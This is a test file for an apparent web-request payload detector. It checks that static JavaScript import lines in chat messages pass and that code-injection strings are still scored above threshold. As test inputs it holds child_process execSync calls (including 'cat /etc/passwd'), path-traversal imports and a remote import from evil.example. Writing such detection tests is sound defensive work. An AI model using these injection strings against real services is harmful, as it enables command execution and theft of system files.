import { describe, expect, it } from 'vitest';
import { recordToRawRequest } from '../../src/eval/record-request.js';
import { buildInspection } from '../../src/inspect/build-inspection.js';
import { createModelGate } from '../../src/model/gate.js';
import { isStaticImportLines } from '../../src/model/import-lines.js';
import { loadPayloadModel } from '../../src/model/load.js';

describe('isStaticImportLines', () => {
  it('takes static import declarations, one a line', () => {
    for (const t of ['import { env } from "std-env";', "import React, { useState } from 'react'", 'import * as fs from "node:fs";\nimport path from "node:path";', 'import "./styles.css";', 'import type { Config } from "./config.js";']) {
      expect(isStaticImportLines(t), t).toBe(true);
    }
  });

  it('leaves a call, a second statement, a path out of the tree, an address and anything else to the model', () => {
    for (const t of [
      "import('child_process').then(m => m.execSync('id'))",
      'import { execSync } from "child_process"; execSync("id");',
      "import {a} from 'b'\nrequire('child_process').exec('id')",
      'import { x } from "../../../etc/passwd";',
      'import x from "/etc/passwd";',
      'import x from "http://evil.example/x.js";',
      '${import("x")}',
      'import os',
      'imports { a } from "b"',
    ]) {
      expect(isStaticImportLines(t), t).toBe(false);
    }
  });
});

const model = await loadPayloadModel('models/payload-v1');

describe('the shipped model behind the import lines', () => {
  it("does not score a chat message's import line and still scores a module loaded by a call in the same field", async () => {
    const score = async (content: string) => {
      const inspection = buildInspection(recordToRawRequest({ id: 't', source: 'test', label: 'benign', category: 'test', method: 'POST', path: '/api/v4/messages', query: '', headers: { Host: 'chat.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify({ channel: 'dev', content }) }));
      return (await createModelGate(model).evaluate(inspection, { hits: [], candidates: 0 })).maxScore;
    };
    expect(await score('import { env } from "std-env";')).toBeLessThan(model.threshold);
    for (const a of ["require('child_process').execSync('id')", 'import { execSync } from "child_process"; execSync("cat /etc/passwd");']) expect(await score(a), a).toBeGreaterThanOrEqual(model.threshold);
  });
});
